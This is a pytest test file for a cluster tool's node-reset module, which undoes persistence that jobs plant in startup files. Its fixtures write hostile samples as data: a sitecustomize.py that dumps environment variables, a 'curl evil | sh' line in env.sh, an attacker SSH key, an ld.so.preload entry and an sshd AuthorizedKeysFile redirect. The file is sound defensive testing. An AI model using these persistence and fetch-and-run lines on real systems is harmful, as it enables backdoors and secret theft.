"""A node's start files put back before each job (ddp_cluster.server.image_reset): what a job leaves where a
shell or Python reads at its start (a sitecustomize.py, a .pth, an edited env.sh, a package added to
site-packages, an authorized key) is undone or refused, in a tree laid out as the image's is."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from ddp_cluster.server import image_reset
from ddp_cluster.server.image_reset import Place

SITE = "/opt/venv/lib/python3.11/site-packages"
PLACES = [
    Place("/etc/profile", "file"),
    Place("/etc/ld.so.preload", "file"),
    Place("/etc/profile.d", "tree"),
    Place("/etc/ddp-cluster", "tree"),
    Place("/etc/ssh/sshd_config.d", "tree"),
    Place("/root/.ssh", "tree"),
    Place(SITE, "top"),
    Place(SITE + "/__pycache__", "tree"),
    Place("/root/.local/lib/python3.11/site-packages", "top"),
]


def put(root: Path, path: str, text: str, mode: int = 0o644) -> Path:
    target = root / path.lstrip("/")
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(text)
    target.chmod(mode)
    return target


@pytest.fixture
def image(tmp_path: Path) -> tuple[Path, Path]:
    """A node's tree as the image made it, its manifest recorded: (root, the manifest's directory)."""
    root, home = tmp_path / "root", tmp_path / "home"
    put(root, "/etc/profile", "PATH=/usr/bin\n")
    put(root, "/etc/profile.d/ddp-cluster.sh", ". /etc/ddp-cluster/env.sh\n")
    put(root, "/etc/ddp-cluster/env.sh", "export DDP_CLUSTER_ENV=1\n")
    (root / "etc/ssh/sshd_config.d").mkdir(parents=True)
    (root / "root/.ssh").mkdir(parents=True, mode=0o700)
    put(root, SITE + "/distutils-precedence.pth", "import _distutils_hack\n")
    put(root, SITE + "/torch/__init__.py", "version = 1\n")
    put(root, SITE + "/__pycache__/six.cpython-311.pyc", "pyc")
    image_reset.record(PLACES, str(root), str(home))
    return root, home


def reset(root: Path, home: Path, check: bool = False) -> image_reset.Outcome:
    return image_reset.reset(image_reset.load(str(home)), str(root), str(home), check)


def test_a_fresh_node_has_nothing_to_undo(image: tuple[Path, Path]) -> None:
    assert reset(*image) == ([], [])


def test_a_planted_sitecustomize_and_an_edited_env_sh_are_undone_and_said(image: tuple[Path, Path]) -> None:
    root, home = image
    put(root, SITE + "/sitecustomize.py", "import os; open('/tmp/stolen', 'w').write(str(os.environ))\n")
    put(root, SITE + "/zz-steal.pth", "import sitecustomize\n")
    put(root, "/etc/ddp-cluster/env.sh", "export DDP_CLUSTER_ENV=1\ncurl evil | sh\n")
    undone, refused = reset(root, home)
    assert refused == []
    assert undone == [
        "restored /etc/ddp-cluster/env.sh (its content differed from the image's)",
        f"removed {SITE}/zz-steal.pth (the image has none there)",
        f"removed {SITE}/sitecustomize.py (the image has none there)",
    ]
    assert not (root / SITE.lstrip("/") / "sitecustomize.py").exists()
    assert (root / "etc/ddp-cluster/env.sh").read_text() == "export DDP_CLUSTER_ENV=1\n"
    assert reset(root, home) == ([], [])


def test_files_the_image_did_not_have_are_removed_wherever_a_start_reads(image: tuple[Path, Path]) -> None:
    root, home = image
    put(root, "/etc/profile.d/zz.sh", "steal\n")
    put(root, "/etc/ld.so.preload", "/tmp/evil.so\n")
    put(root, "/root/.ssh/rc", "steal\n")
    put(root, "/root/.ssh/authorized_keys", "ssh-ed25519 AAAA attacker\n")
    put(root, "/root/.local/lib/python3.11/site-packages/usercustomize.py", "steal\n")
    put(root, SITE + "/requests/__init__.py", "shadow\n")  # a package a job installed
    put(root, SITE + "/__pycache__/sitecustomize.cpython-311.pyc", "pyc")
    undone, refused = reset(root, home)
    assert refused == []
    removed = sorted(line.split()[1] for line in undone)
    assert removed == sorted(
        [
            "/etc/profile.d/zz.sh",
            "/etc/ld.so.preload",
            "/root/.ssh/rc",
            "/root/.ssh/authorized_keys",
            "/root/.local/lib/python3.11/site-packages",  # the image has no user site directory at all
            f"{SITE}/requests",
            f"{SITE}/__pycache__/sitecustomize.cpython-311.pyc",
        ]
    )
    assert not (root / SITE.lstrip("/") / "requests").exists()
    assert (root / SITE.lstrip("/") / "torch/__init__.py").read_text() == "version = 1\n"


def test_a_removed_file_a_changed_mode_and_a_link_put_in_its_place_are_restored(
    image: tuple[Path, Path],
) -> None:
    root, home = image
    (root / "etc/profile").unlink()
    (root / "etc/ddp-cluster/env.sh").chmod(0o777)
    target = root / SITE.lstrip("/") / "distutils-precedence.pth"
    target.unlink()
    target.symlink_to("/tmp/evil.pth")
    undone, refused = reset(root, home)
    assert refused == []
    assert sorted(undone) == [
        "restored /etc/ddp-cluster/env.sh (its mode was 0o777)",
        "restored /etc/profile (it was missing)",
        f"restored {SITE}/distutils-precedence.pth (it was a link, the image has a file)",
    ]
    assert not target.is_symlink() and target.read_text() == "import _distutils_hack\n"
    assert (root / "etc/ddp-cluster/env.sh").stat().st_mode & 0o777 == 0o644


def test_check_mode_says_what_differs_and_changes_nothing(image: tuple[Path, Path]) -> None:
    root, home = image
    planted = put(root, SITE + "/sitecustomize.py", "steal\n")
    put(root, "/etc/ddp-cluster/env.sh", "edited\n")
    undone, _ = reset(root, home, check=True)
    assert len(undone) == 2
    assert planted.exists() and (root / "etc/ddp-cluster/env.sh").read_text() == "edited\n"


def test_a_copy_changed_in_the_container_is_refused_naming_the_fix(image: tuple[Path, Path]) -> None:
    root, home = image
    put(root, "/etc/ddp-cluster/env.sh", "edited\n")
    put(home, "/files/etc/ddp-cluster/env.sh", "edited\n")
    undone, refused = reset(root, home)
    assert undone == []
    assert refused == [
        "/etc/ddp-cluster/env.sh cannot be put back (its content differed from the image's): its copy"
        f" {home}/files/etc/ddp-cluster/env.sh is not the image's either (changed in this container)."
        f" {image_reset.RECREATE}"
    ]


def test_a_package_directory_of_the_image_replaced_is_refused(image: tuple[Path, Path]) -> None:
    root, home = image
    torch = root / SITE.lstrip("/") / "torch"
    (torch / "__init__.py").unlink()
    torch.rmdir()
    torch.symlink_to("/tmp/evil-torch")
    _, refused = reset(root, home)
    assert refused and refused[0].startswith(f"{SITE}/torch is no longer the image's directory")


def test_the_nodes_own_files_are_kept_and_only_the_cluster_key_stays_authorized(
    image: tuple[Path, Path], tmp_path: Path
) -> None:
    root, home = image
    key = root / "root/.ssh/id_ddp_cluster"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(key)], check=True)
    public = Path(f"{key}.pub").read_text().split()
    Path(f"{key}.pub").unlink()
    put(root, "/etc/ddp-cluster/known_hosts", "[node1]:12345 ssh-ed25519 AAAA\n")
    put(root, "/etc/ddp-cluster/munge.key", "c2VjcmV0\n")  # Slurm's key, the slurm role's
    put(root, "/etc/ssh/sshd_config.d/10-ddp-cluster.conf", "Port 12345\nListenAddress 0.0.0.0\n")
    cluster_line = f'from="10.0.0.0/24" {public[0]} {public[1]} ddp-cluster-local'
    keys = put(root, "/etc/ddp-cluster/authorized_keys", f"{cluster_line}\nssh-ed25519 AAAAother attacker\n")
    undone, refused = reset(root, home)
    assert refused == []
    assert undone == [
        "removed 1 line(s) of /etc/ddp-cluster/authorized_keys that authorized another key than the cluster's"
    ]
    assert keys.read_text() == cluster_line + "\n"
    assert key.exists() and (root / "etc/ddp-cluster/known_hosts").exists()
    assert (root / "etc/ddp-cluster/munge.key").read_text() == "c2VjcmV0\n"


def test_an_sshd_setting_added_beside_the_port_is_refused(image: tuple[Path, Path]) -> None:
    root, home = image
    put(root, "/etc/ssh/sshd_config.d/10-ddp-cluster.conf", "Port 1\nAuthorizedKeysFile /tmp/keys\n")
    _, refused = reset(root, home)
    assert len(refused) == 1
    assert "AuthorizedKeysFile /tmp/keys" in refused[0] and "docker restart" in refused[0]


def test_a_missing_manifest_is_a_refusal_naming_the_fix(tmp_path: Path) -> None:
    with pytest.raises(image_reset.ResetError, match=r"cannot be read .* Recreate the node"):
        image_reset.load(str(tmp_path))


def test_recording_with_add_joins_the_packages_source(image: tuple[Path, Path]) -> None:
    root, home = image
    put(root, "/opt/ddp_cluster/src/ddp_cluster/__init__.py", "")
    image_reset.record([Place("/opt/ddp_cluster/src", "tree")], str(root), str(home), add=True)
    added = json.loads((home / image_reset.ADDED).read_text())
    assert list(added["entries"]) == ["/opt/ddp_cluster/src", "/opt/ddp_cluster/src/ddp_cluster",
                                      "/opt/ddp_cluster/src/ddp_cluster/__init__.py"]  # fmt: skip
    manifest = image_reset.load(str(home))
    assert "/opt/ddp_cluster/src/ddp_cluster/__init__.py" in manifest["entries"]
    assert "/etc/ddp-cluster/env.sh" in manifest["entries"]
    put(root, "/opt/ddp_cluster/src/ddp_cluster/runtime/secrets.py", "steal\n")
    assert reset(root, home).undone == [
        "removed /opt/ddp_cluster/src/ddp_cluster/runtime (the image has none there)"
    ]


def test_the_places_of_a_python_are_its_site_directories_and_standard_library() -> None:
    places = image_reset.default_places(sys.executable)
    paths = {place.path: place.scope for place in places}
    import site
    import sysconfig

    stdlib = os.path.realpath(sysconfig.get_path("stdlib"))
    assert paths[stdlib] == "top" and paths[stdlib + "/encodings"] == "tree"
    for directory in site.getsitepackages():
        assert paths[os.path.realpath(directory)] == "top"
        assert paths[os.path.realpath(directory) + "/__pycache__"] == "tree"
    assert paths["/root/.bashrc"] == "file" and paths["/etc/ddp-cluster"] == "tree"


def test_the_working_directory_an_empty_pythonpath_entry_adds_is_no_place(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A base image's ``PYTHONPATH=/opt/x:$PYTHONPATH`` (CANN's set_env.sh) ends in an empty entry: the
    build's working directory (/workspace, where the jobs live) is on its sys.path, and is never a place."""
    extra = tmp_path / "toolkit"
    extra.mkdir()
    monkeypatch.setenv("PYTHONPATH", f"{extra}:")
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(image_reset, "NOT_IMAGE", ("/workspace",))  # the test's directories are under /tmp
    paths = {place.path for place in image_reset.default_places(sys.executable)}
    assert str(extra) in paths
    assert str(tmp_path) not in paths and not any(path.startswith("/tmp/ddp-reset-") for path in paths)


def test_a_jobs_workspace_in_the_manifest_is_never_reset(image: tuple[Path, Path]) -> None:
    """An older image's manifest that holds /workspace (its build's working directory): the jobs' data there
    is never removed."""
    root, home = image
    manifest = image_reset.load(str(home))
    manifest["places"].append(["/workspace", "top"])
    put(root, "/workspace/jobs/a/output/model.pt", "weights")
    outcome = image_reset.reset(manifest, str(root), str(home))
    assert outcome == image_reset.Outcome([], [])
    assert (root / "workspace/jobs/a/output/model.pt").read_text() == "weights"


def test_the_reset_runs_without_what_a_job_left_for_python(image: tuple[Path, Path], tmp_path: Path) -> None:
    """As the node runs it (-I -S): a sitecustomize on PYTHONPATH does not run in the reset itself."""
    root, home = image
    planted = tmp_path / "planted"
    put(planted, "/sitecustomize.py", f"open({str(tmp_path / 'ran')!r}, 'w').write('x')\n")
    put(root, SITE + "/sitecustomize.py", "steal\n")
    done = subprocess.run(
        [sys.executable, "-I", "-S", image_reset.__file__, "reset", "--root", str(root), "--home", str(home)],
        env={**os.environ, "PYTHONPATH": str(planted)},
        capture_output=True,
        text=True,
        check=True,
    )
    assert done.stdout == f"reset: removed {SITE}/sitecustomize.py (the image has none there)\n"
    assert not (tmp_path / "ran").exists()
    assert image_reset.command().startswith(
        "{ env -i PATH=/usr/sbin:/usr/bin:/sbin:/bin /opt/venv/bin/python3 -I -S"
        " /usr/lib/ddp-cluster/image_reset.py reset 2>&1 || echo 'reset refused: "
    )


def test_no_reset_while_a_job_runs_on_the_node(image: tuple[Path, Path], tmp_path: Path) -> None:
    root, home = image
    planted = put(root, SITE + "/sitecustomize.py", "the running job's\n")
    jobs = tmp_path / "jobs"
    rank = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(20)", f"{jobs}/J9/output"])
    try:
        argv = ["reset", "--root", str(root), "--home", str(home), "--unless-running", str(jobs)]
        done = subprocess.run(
            [sys.executable, "-I", "-S", image_reset.__file__, *argv],
            capture_output=True,
            text=True,
            check=True,
        )
    finally:
        rank.kill()
        rank.wait()
    assert done.stdout == "reset skipped: a job runs on this node\n"
    assert planted.exists()
